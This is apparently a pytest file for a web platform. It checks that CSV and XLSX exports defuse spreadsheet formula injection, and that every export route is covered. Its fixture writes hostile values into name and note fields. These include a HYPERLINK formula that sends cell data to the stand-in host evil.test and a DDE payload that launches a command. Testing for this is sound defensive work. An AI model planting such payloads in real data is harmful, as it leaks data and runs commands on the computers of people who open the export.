"""No spreadsheet the platform hands over runs a formula (issue 18, item 7): a name, a note or
a title that starts like a formula reaches every CSV and XLSX export as quoted text."""

import csv
import io

import pytest
import tablib

from transfo.users.models import User

HOSTILE = '=HYPERLINK("http://evil.test/?leak="&B2,"Voir")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = body.decode("utf-8-sig")
        first = text.splitlines()[0]
        delimiter = ";" if first.count(";") > first.count(",") else ","
        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    dataset = tablib.Dataset().load(body, format="xlsx")
    return [str(cell) for row in [dataset.headers, *dataset] for cell in row if cell is not None]


@pytest.fixture
def hostile(demo):
    """The hostile text in a member's name, a labo actor, a time exchange, a published case."""
    from cas_pratiques.models import CasPratique
    from collectivites.models import Transfo
    from labos.models import Acteur, EchangeTemps

    strasbourg = Transfo.objects.get(slug="strasbourg")
    User.objects.filter(email="ambassadeur@demo.test").update(full_name=HOSTILE)
    acteur = Acteur.objects.filter(transfo=strasbourg).first()
    acteur.nom = HOSTILE
    # Excel in French splits a .csv on ";": the formula after it must stay in the cell.
    acteur.contact = "PTX;=SUM(A1:A9)*1000;"
    acteur.notes = "@SUM(1+1)*cmd|' /C calc'!A0"
    acteur.save()
    EchangeTemps.objects.create(
        transfo=strasbourg, direction=HOSTILE, sens="donne", heures=2, description="-2+3"
    )
    published = CasPratique.objects.publies().first()
    CasPratique.objects.filter(pk=published.pk).update(titre=HOSTILE, resume="+33 1 23")
    return strasbourg


@pytest.mark.parametrize(
    "email, path",
    [
        ("pilote@demo.test", "/espace/transfos/strasbourg/groupe/export.csv"),
        ("pilote@demo.test", "/espace/transfos/strasbourg/groupe/export.xlsx"),
        ("residente@demo.test", "/espace/transfos/strasbourg/labo/ecosysteme/export.csv"),
        ("residente@demo.test", "/espace/transfos/strasbourg/labo/banque-de-temps/export.csv"),
        ("coordination@demo.test", "/coordination/export.csv"),
        (None, "/cas/export.csv"),
    ],
)
def test_no_cell_of_an_export_starts_like_a_formula(client, hostile, email, path):
    if email:
        client.force_login(User.objects.get(email=email))
    response = client.get(path)
    assert response.status_code == 200, path
    found = cells(response)
    assert any(HOSTILE in cell for cell in found) or path == "/coordination/export.csv"
    formulas = [cell for cell in found if cell.startswith(STARTS)]
    assert formulas == [], path
    if response["Content-Type"].startswith("text/csv"):
        # Read with the other separator, as a spreadsheet set to it would: still no formula.
        text = b"".join(response.streaming_content) if response.streaming else response.content
        text = text.decode("utf-8-sig")
        other = "," if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ";"
        split = [cell for row in csv.reader(io.StringIO(text), delimiter=other) for cell in row]
        assert [cell for cell in split if cell.strip('"').startswith(STARTS)] == [], path


EXPORT_ROUTES_TESTED_ELSEWHERE = {
    # The Transfo's figures: numbers and the platform's own labels only.
    "espace/transfos/<slug:slug>/indicateurs/export.csv",
    # Open data in JSON: no spreadsheet reads it as formulas.
    "cas/export.json",
}


def test_every_spreadsheet_route_is_in_the_formula_test():
    """A new CSV or XLSX route fails here until it is added to the test above."""
    from tests.security.test_url_matrix import routes

    tested = {
        path.split("/espace/transfos/strasbourg/")[-1].lstrip("/")
        for _email, path in test_no_cell_of_an_export_starts_like_a_formula.pytestmark[0].args[1]
    }
    spreadsheets = {
        route
        for route, _pattern in routes()
        if route.endswith((".csv", ".xlsx")) and route not in EXPORT_ROUTES_TESTED_ELSEWHERE
    }
    untested = sorted(
        route
        for route in spreadsheets
        if not any(route.endswith(path) or route == path for path in tested)
    )
    assert untested == []
